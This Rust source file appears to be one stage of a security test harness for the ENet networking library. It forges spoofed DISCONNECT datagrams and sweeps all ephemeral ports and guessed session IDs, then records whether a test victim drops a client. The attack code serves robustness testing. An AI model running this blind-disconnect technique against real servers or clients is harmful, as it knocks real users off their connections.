//! A4: a DISCONNECT for everybody who may be there.

use std::net::SocketAddrV4;
use std::time::Duration;

use enet_testkit::commands;

use crate::forge::{self, Addressee};
use crate::honest::HOME;
use crate::load::gently;
use crate::stage::{Finding, Findings, Stage, Trouble};
use crate::victim::Setup;

/// In so many pieces is a sweep over all ports done; after each the attacker looks whether there is more to do.
const PIECES: u32 = 8;

/// The attacker knows a client's address but not its port, and tries them all: each session with the first slot, then as
/// many peers and sessions at random.
pub(crate) fn blind_disconnects(stage: &Stage<'_>) -> Findings {
    let (mut target, raw) = (stage.target(Setup::default())?, stage.raw()?);
    let guest = target.guest()?;
    let (ports, mut rng) = (ports()?, stage.rng());
    let victim = target.victim()?;
    let (at, count) = (victim.at, u32::from(ports.1 - ports.0) + 1);
    let send = |port: u32, to: Addressee| {
        let port = u16::try_from(port).map_err(|error| error.to_string())?;
        let bytes = forge::datagram(to, None, &[commands::disconnect_now(0, 0)]);
        raw.send(SocketAddrV4::new(HOME, port), at, &bytes)
    };
    // A quick run has its second sweep cut short.
    let pieces = 2 * PIECES - stage.scale(PIECES - 1, 0);
    let (mut tried, mut dropped) = (0, false);
    for piece in 0..pieces {
        let (first, last) = (piece % PIECES * 4 * count / PIECES, (piece % PIECES + 1) * 4 * count / PIECES);
        gently(victim, last - first, |number| {
            let number = first + number;
            let [session, ..] = number.to_le_bytes();
            let known = Addressee::new(0, session);
            let to = if piece < PIECES { known } else { Addressee::guess(&mut rng) };
            send(u32::from(ports.0) + number / 4, to)
        })?;
        tried += last - first;
        victim.drain();
        dropped = victim.report()?.disconnected > 0;
        if dropped {
            break;
        }
    }
    // Long enough for a server that asks the client first.
    let patience = Duration::from_millis(1_200);
    dropped |= victim.report_until(patience, |account| account.disconnected > 0)?.disconnected > 0;
    let note = format!("{tried} datagrams of 10 bytes");
    if dropped {
        return Ok(vec![Finding::of(1).note(note)]);
    }
    let stay = guest.leave()?;
    if !stay.connected {
        return Err(Trouble::Failed("the honest client did not get in".to_owned()));
    }
    Ok(vec![Finding::whether(stay.was_disturbed()).note(note)])
}

/// First and last of the ports that clients get.
fn ports() -> Result<(u16, u16), String> {
    let path = "/proc/sys/net/ipv4/ip_local_port_range";
    let text = std::fs::read_to_string(path).map_err(|error| format!("{path}: {error}"))?;
    let mut numbers = text.split_whitespace().map_while(|number| number.parse().ok());
    match (numbers.next(), numbers.next()) {
        (Some(first), Some(last)) if first <= last => Ok((first, last)),
        _ => Err(format!("{path} says {text}")),
    }
}
